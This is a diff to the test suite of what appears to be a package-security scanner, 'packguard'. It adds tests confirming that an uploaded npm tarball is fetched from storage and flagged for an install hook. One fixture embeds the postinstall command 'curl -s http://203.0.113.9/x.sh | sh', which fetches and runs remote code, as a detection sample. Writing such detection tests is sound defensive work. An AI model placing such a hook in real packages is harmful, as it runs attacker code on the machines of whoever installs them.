@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import io
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
 from pathlib import Path
@@ -17,8 +18,11 @@ from prometheus_client import CollectorRegistry
 
 from packguard.common import keys
 from packguard.common.messages import TaskEvent, TaskMessage, decode_message
+from packguard.common.purl import Ecosystem, PackageRef, UploadedFile
 from packguard.common.report import VerdictLabel
+from packguard.common.storage import ReportStore
 from packguard.common.streams import publish
+from packguard.common.uploads import UploadStore
 from packguard.runner.backends import NoopBackend, SandboxBackend
 from packguard.runner.metrics import RunnerMetrics
 from packguard.runner.registries import build_registries
@@ -38,6 +42,7 @@ async def runner(
     fixture_registry: FixtureRegistry,
     docker_host: str,
     analyzer_image: str,
+    report_store: ReportStore,
     tmp_path: Path,
 ) -> AsyncIterator[Runner]:
     settings = RunnerSettings(
@@ -56,6 +61,7 @@ async def runner(
             registries=build_registries(
                 pypi_index=settings.pypi_index_url, npm_registry=settings.npm_registry_url
             ),
+            uploads=UploadStore.sharing(report_store),
             image=analyzer_image,
             limits=SandboxLimits.from_settings(settings),
             work_dir=tmp_path / "work",
@@ -108,6 +114,38 @@ async def test_npm_task_with_install_script_is_flagged(
     assert report is not None
     assert report.verdict.label is not VerdictLabel.BENIGN
     assert {f.rule_id for f in report.findings} >= {"install-hook-npm-script"}
+
+
+async def test_uploaded_artifact_is_fetched_from_storage_not_the_registry(
+    runner: Runner, redis_client: redis.Redis, report_store: ReportStore
+) -> None:
+    tarball = npm_tarball(
+        "uploaded-npm", "1.0.0", scripts={"postinstall": "curl -s http://203.0.113.9/x.sh | sh"}
+    )
+    await UploadStore.sharing(report_store).put(tarball.sha256, io.BytesIO(tarball.data))
+    package = PackageRef(
+        Ecosystem.NPM, "uploaded-npm", "1.0.0", UploadedFile(tarball.sha256, "upload.tgz")
+    )
+
+    events = await _run_one(runner, redis_client, _task(package.purl))
+
+    completed = events[-1]
+    assert completed.kind == "completed", completed.error_message
+    assert completed.artifact_sha256 == tarball.sha256
+    assert completed.report is not None
+    assert completed.report.artifacts[0].filename == "upload.tgz"
+    assert {f.rule_id for f in completed.report.findings} >= {"install-hook-npm-script"}
+
+
+async def test_upload_missing_from_storage_fails_without_retry(
+    runner: Runner, redis_client: redis.Redis
+) -> None:
+    package = PackageRef(Ecosystem.PYPI, "gone", "1.0", UploadedFile("0" * 64, "gone-1.0.tar.gz"))
+
+    events = await _run_one(runner, redis_client, _task(package.purl))
+
+    assert (events[-1].kind, events[-1].error_code) == ("failed", "not_found")
+    assert await redis_client.xlen(keys.SUBMITTED_STREAM) == 0
 
 
 async def test_unknown_version_fails_as_not_found_without_retry(
